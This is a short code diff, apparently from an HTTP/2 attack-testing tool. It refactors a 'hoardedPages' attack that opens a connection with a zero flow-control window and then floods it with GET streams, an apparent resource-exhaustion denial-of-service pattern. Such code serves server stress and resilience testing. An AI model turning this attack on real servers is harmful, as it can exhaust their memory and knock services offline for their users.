@@ -1,6 +1,6 @@
 import { readdirSync } from "node:fs";
 import { fileURLToPath } from "node:url";
-import { type Attack, callHeaders } from "./attack.js";
+import { type Attack, callHeaders, PAGE } from "./attack.js";
 import { setting } from "./frames.js";
 import type { RawConnection } from "./raw-connection.js";
 
@@ -29,7 +29,7 @@ export const hoardedPages: Attack = {
 async function ask(connection: RawConnection, path: string, streams: number): Promise<void> {
   await connection.begin(setting(INITIAL_WINDOW_SIZE, 0));
   for (let id = 1; id < 2 * streams && connection.going; id += 2) {
-    await connection.write(callHeaders(id, true, { ":method": "GET", ":path": path }));
+    await connection.write(callHeaders(id, true, { ...PAGE, ":path": path }));
   }
   await connection.waitForEnd();
 }
